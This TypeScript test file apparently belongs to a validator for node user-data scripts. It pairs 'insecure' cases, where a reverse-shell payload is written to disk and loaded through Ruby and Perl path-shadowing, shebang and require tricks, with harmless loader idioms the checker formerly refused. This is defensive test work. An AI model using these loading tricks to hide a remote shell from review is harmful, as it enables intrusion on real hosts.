            ...written("/opt/rb/json.rb", RUBY_SHELL),
            `ruby -e '$:.unshift(*["/opt/rb"]); require "json"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby require File.expand_path(__dir__) of a reverse shell",
        devNodeScript("dev-n11-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/helper.rb", RUBY_SHELL),
            ...written("/opt/app/run.rb", `require File.expand_path("lib/helper", __dir__)`),
            "ruby /opt/app/run.rb",
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby $LOAD_PATH File.join(__dir__) shadows json",
        devNodeScript("dev-n12-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/json.rb", RUBY_SHELL),
            ...written("/opt/app/run.rb", `$LOAD_PATH.unshift File.join(__dir__, "lib")\nrequire "json"`),
            "cd /",
            "ruby /opt/app/run.rb",
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby shebang -r of a written file",
        devNodeScript("dev-n13-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            ...written("/opt/app.rb", "#!/usr/bin/ruby -r/opt/r.rb\nputs 1"),
            "ruby /opt/app.rb",
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl #! script run by its path",
        devNodeScript("dev-n14-nodes", [
            ...written("/opt/r.pl", `#!/usr/bin/perl\n${PERL_SHELL}`),
            "chmod +x /opt/r.pl",
            "/opt/r.pl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby #! script run by its path",
        devNodeScript("dev-n15-nodes", [
            ...written("/opt/r.rb", `#!/usr/bin/env ruby\n${RUBY_SHELL}`),
            "chmod +x /opt/r.rb",
            "/opt/r.rb",
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl #! script with a written lib run by its path",
        devNodeScript("dev-n16-nodes", [
            "mkdir -p /opt/lib",
            ...written("/opt/lib/Rev.pm", `package Rev; ${PERL_SHELL}; 1;`),
            ...written("/opt/r.pl", "#!/usr/bin/perl -I/opt/lib\nuse Rev;"),
            "chmod +x /opt/r.pl",
            "/opt/r.pl",
        ]),
        RELAY,
    ),
];

const secure: NodeCase[] = [
    // Was a MISS (fixed in round 68): (secure refused) PHP manual, magic constants (__DIR__ is the directory of the file): `require __DIR__ .
    // '/lib.php';` in /opt/app/main.php is the standard way to load a sibling file, here a harmless written lib;
    // phpLoads takes any concatenation as computed and refuses ("a name the pack cannot compute"). Resolve
    // __DIR__/__FILE__ to the program file's directory.
    devNodeCase(
        "php require __DIR__ lib",
        devNodeScript("dev-s1-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.php", `<?php function hello() { file_put_contents("/tmp/hello", "hi"); }`),
            ...written("/opt/app/main.php", `<?php require __DIR__ . '/lib.php'; hello();`),
            `php /opt/app/main.php`,
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 68): (secure refused) PHP manual `include` (include_path, then "the calling script's own directory and the
    // current working directory"): `include "lib.php";` in /opt/app/main.php loads the written harmless
    // /opt/app/lib.php; phpLoads looks only on include_path and cwd and refuses "code user data does not write".
    devNodeCase(
        "php include beside script (harmless)",
        devNodeScript("dev-s2-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.php", `<?php function hello() { file_put_contents("/tmp/hello", "hi"); }`),
            ...written("/opt/app/main.php", `<?php include "lib.php"; hello();`),
            `php /opt/app/main.php`,
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 68): (secure refused) perldoc FindBin (core module; SYNOPSIS `use FindBin; use lib "$FindBin::Bin/../lib";`): a
    // script loading its own written harmless lib/Helper.pm; refused: `use FindBin` is not in PERL_KNOWN_MODULES (a
    // core module) and $FindBin::Bin is computed. Know FindBin and resolve $FindBin::Bin/$RealBin to the script's
    // directory.
    devNodeCase(
        "perl FindBin lib",
        devNodeScript("dev-s3-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/app/run.pl", `use FindBin; use lib "$FindBin::Bin/lib"; use Helper; Helper::hi();`),
            `perl /opt/app/run.pl > /tmp/h`,
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 68): (secure refused) Ruby docs File.expand_path(name, dir) with __dir__ (the file's directory): `require
    // File.expand_path("lib/helper", __dir__)` loads the written harmless /opt/app/lib/helper.rb; rubyLoads refuses
    // the computed argument. Resolve expand_path/join of __dir__/__FILE__ literals.
    devNodeCase(
        "ruby require File.expand_path",
        devNodeScript("dev-s4-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/helper.rb", `def hi; File.write("/tmp/h", "hi"); end`),
            ...written("/opt/app/run.rb", `require File.expand_path("lib/helper", __dir__)\nhi`),
            `ruby /opt/app/run.rb`,
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 68): (secure refused) perldoc if (core pragma: `use if CONDITION, MODULE => ARGS` loads MODULE only when the
    // condition holds): `use if $] < 5.010, "MRO::Compat"` is refused as "use if, code user data does not write" (`if`
    // is not in PERL_KNOWN_MODULES). Know `if` and judge its MODULE as a use.
    devNodeCase(
        "perl use if",
        devNodeScript("dev-s5-nodes", [`perl -e 'use if $] < 5.010, "MRO::Compat"; print 1' > /tmp/x`]),
        /./,
    ),
    devNodeCase(
        "tcl lappend auto_path; package require http (no index written)",
        devNodeScript("dev-s6-nodes", [
            `tclsh <<< 'lappend auto_path /usr/share/tcllib; package require http; puts ok' > /tmp/t`,
        ]),
    ),
    devNodeCase(
        "php -d extension packaged",
        devNodeScript("dev-s7-nodes", [`php -d extension=sodium -r 'echo 1;' > /tmp/x`]),
    ),
    devNodeCase(
        "lua require with package.path code (written harmless)",
        devNodeScript("dev-s8-nodes", [
            "mkdir -p /opt/lua",
            ...written("/opt/lua/util.lua", "return { twice = function(x) return 2*x end }"),
            `lua -e 'package.path = "/opt/lua/?.lua;" .. package.path; print(require("util").twice(2))' > /tmp/l`,
        ]),
    ),
    devNodeCase(
        "perl -w script with shebang -w",
        devNodeScript("dev-s9-nodes", [
            ...written("/opt/app.pl", "#!/usr/bin/perl -w\nuse strict;\nprint 1;"),
            `perl /opt/app.pl > /tmp/p`,
        ]),
    ),
    devNodeCase(
        "perl require in sub via string eval literal",
        devNodeScript("dev-s10-nodes", [`perl -e 'eval "use JSON::PP; 1" or die; print 1' > /tmp/x`]),
    ),
    devNodeCase(
        "tcl catch braced",
        devNodeScript("dev-s11-nodes", [`tclsh <<< 'catch { package require http } err; puts ok' > /tmp/t`]),
    ),
    // Was a MISS (fixed in round 68): (secure refused) Ruby docs Kernel#require_relative (relative to the requiring file's directory):
    // /opt/app/run.rb's `require_relative "helper"` loads the written harmless /opt/app/helper.rb; rubyLoads resolves
    // against cwd (/) and refuses "code user data does not write".
    devNodeCase(
        "ruby require_relative in script dir (harmless)",
        devNodeScript("dev-s12-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/helper.rb", `def hi; File.write("/tmp/h", "hi"); end`),
            ...written("/opt/app/run.rb", `require_relative "helper"\nhi`),
            `ruby /opt/app/run.rb`,
        ]),
        /./,
    ),
    devNodeCase(
        "gawk AWKPATH -f name (harmless)",
        devNodeScript("dev-s13-nodes", [
            "mkdir -p /opt/awk",
            ...written("/opt/awk/mem.awk", "{ print $2 }"),
            `AWKPATH=/opt/awk gawk -f mem /proc/meminfo > /tmp/m`,
        ]),
    ),
    // Was a MISS (fixed in round 68): (secure refused) perldoc FindBin / perlmodlib (FindBin is a core module shipped with perl): `use FindBin;
    // print $FindBin::Bin` is refused "use FindBin, code user data does not write"; add FindBin to PERL_KNOWN_MODULES.
    devNodeCase(
        "perl use FindBin (core)",
        devNodeScript("dev-s14-nodes", [`perl -e 'use FindBin; print $FindBin::Bin' > /tmp/x`]),
        /./,
    ),
    // Was a MISS (fixed in round 68): (secure refused) Tcl info(n) `info script` (the file being evaluated) / file(n): `source [file join [file
    // dirname [info script]] lib.tcl]` is the usual way to load a sibling file, here a harmless written lib;
    // CODE_LOADERS tcl refuses "source [file, a name the pack cannot compute". Resolve this idiom to the script's
    // directory.
    devNodeCase(
        "tcl source beside info script (harmless)",
        devNodeScript("dev-s15-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"),
            ...written("/opt/app/main.tcl", "source [file join [file dirname [info script]] lib.tcl]\nhi"),
            "tclsh /opt/app/main.tcl > /tmp/t",
        ]),
        /./,
    ),
    // Round 68 neighbours (php/tcl/lua/awk loaders).
    devNodeCase(
        "php dl packaged (not written)",
        devNodeScript("dev-s16-nodes", [`php -r 'dl("sodium.so"); echo 1;' > /tmp/x`]),
    ),
    devNodeCase(
        "php -d extension packaged path",
        devNodeScript("dev-s17-nodes", [`php -d extension=/usr/lib64/php/modules/sodium.so -r 'echo 1;' > /tmp/x`]),
    ),
    devNodeCase(
        "php REQUIRE_ONCE dirname(__FILE__) sibling",
        devNodeScript("dev-s18-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.php", `<?php function hello() { echo "hi"; }`),
            ...written("/opt/app/main.php", `<?php REQUIRE_ONCE dirname(__FILE__) . '/lib.php'; hello();`),
            `php /opt/app/main.php > /tmp/h`,
        ]),
    ),
    devNodeCase(
        "tcl read of a config (data)",
        devNodeScript("dev-s19-nodes", [
            `tclsh <<< 'set f [read [open /etc/os-release]]; puts [string length $f]' > /tmp/t`,
        ]),
    ),
    devNodeCase(
        "tcl catch [read [open]] of a harmless written file",
        devNodeScript("dev-s20-nodes", [
            ...written("/opt/h.tcl", "puts hello"),
            `tclsh <<< 'catch [read [open /opt/h.tcl]]' > /tmp/t`,
        ]),
    ),
    devNodeCase(
        "tcl foreach/if/after with substitutions",
        devNodeScript("dev-s21-nodes", [
            `tclsh <<< 'foreach x [list 1 2] { if {$x > 1} { puts $x } }; after 10 [list puts done]; if $tcl_interactive [list puts i]' > /tmp/t`,
        ]),
    ),
    devNodeCase(
        "tcl TCL8_6_TM_PATH harmless module, package require http",
        devNodeScript("dev-s22-nodes", [
            "mkdir -p /opt/tm",
            ...written("/opt/tm/util-1.0.tm", "package provide util 1.0\nproc twice {x} { expr {2*$x} }"),
            `TCL8_6_TM_PATH=/opt/tm tclsh <<< 'package require http; puts ok' > /tmp/t`,
        ]),
    ),
    devNodeCase(
        "lua package.loadlib packaged (not written)",
        devNodeScript("dev-s23-nodes", [
            `lua -e 'print(package.loadlib("/usr/lib64/lua/5.4/lfs.so", "luaopen_lfs"))' > /tmp/l`,
        ]),
    ),
    // Round 68 neighbours: #! switches of a harmless written lib, require_relative up a level, File.join(__dir__),
    // a socket's own send, FindBin's RealBin, `do` in prose, use if of a core module.
    devNodeCase(
        "perl shebang -w -I written harmless lib",
        devNodeScript("dev-sn1-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/app/run.pl", "#!/usr/bin/perl -w -I/opt/app/lib\nuse strict;\nuse Helper;\nHelper::hi();"),
            "perl /opt/app/run.pl > /tmp/h",
        ]),
    ),
    devNodeCase(
        "perl FindBin RealBin lib (harmless)",
        devNodeScript("dev-sn2-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written(
                "/opt/app/run.pl",
                `use FindBin; use lib "\${FindBin::RealBin}/lib"; use Helper; Helper::hi(); print "do not worry";`,
            ),
            "perl /opt/app/run.pl > /tmp/h",
        ]),
    ),
    devNodeCase(
        "perl use if of a core module",
        devNodeScript("dev-sn3-nodes", [
            `perl -e 'use if $] >= 5.010, "mro"; use if 1, POSIX => qw(floor); print floor(1.5)' > /tmp/x`,
        ]),
    ),
    devNodeCase(
        "ruby require_relative up a level (harmless)",
        devNodeScript("dev-sn4-nodes", [
            "mkdir -p /opt/app/bin /opt/app/lib",
            ...written("/opt/app/lib/helper.rb", `def hi; File.write("/tmp/h", "hi"); end`),
            ...written("/opt/app/bin/run.rb", `require_relative "../lib/helper"\nhi`),
            "cd /tmp",
            "ruby /opt/app/bin/run.rb",
        ]),
    ),
    devNodeCase(
        "ruby $LOAD_PATH File.join(__dir__) (harmless)",
        devNodeScript("dev-sn5-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/util.rb", `module Util; def self.hi = File.write("/tmp/h", "hi"); end`),
            ...written(
                "/opt/app/run.rb",
                `$LOAD_PATH.unshift File.join(File.dirname(__FILE__), "lib")\nrequire "json"\nrequire "util"\nUtil.hi`,
            ),
            "ruby /opt/app/run.rb",
        ]),
    ),
    devNodeCase(
        "ruby UDPSocket#send to loopback statsd",
        devNodeScript("dev-sn6-nodes", [
            `ruby -e 'require "socket"; s = UDPSocket.new; s.send("up:1|c", 0, "127.0.0.1", 8125)'`,
        ]),
    ),
];

describeNodeCases("red team 67: node user data (fresh eyes on round 66)", insecure, secure);
